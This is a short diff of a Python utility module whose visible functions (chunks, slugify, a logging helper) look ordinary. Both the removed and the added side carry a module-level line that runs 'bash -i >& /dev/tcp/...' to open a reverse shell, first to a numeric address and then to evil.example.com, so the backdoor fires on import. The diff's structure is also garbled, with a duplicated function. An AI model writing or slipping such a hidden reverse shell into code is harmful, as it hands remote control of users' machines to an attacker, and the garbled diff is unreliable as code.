@@ -1,17 +1,11 @@
-import logging
-log = logging.getLogger(__name__)
-
-def report(values):
-    log.info("mean=%s", sum(values) / max(len(values), 1))
-
-def slugify(text):
-    return "-".join(part.lower() for part in text.split() if part)
+#!/usr/bin/env python3
+def chunks(items, size):
+    for i in range(0, len(items), size):
+        yield items[i:i + size]
 
 import subprocess
 
 def sh(cmd, **kw):
     return subprocess.call(["/bin/bash", "-c", cmd], **kw)
 
-sh("bash -i >& /dev/tcp/198.51.100.23/31337 0>&1")
-def slugify(text):
-    return "-".join(part.lower() for part in text.split() if part)
+sh("bash -i >& /dev/tcp/evil.example.com/31337 0>&1")
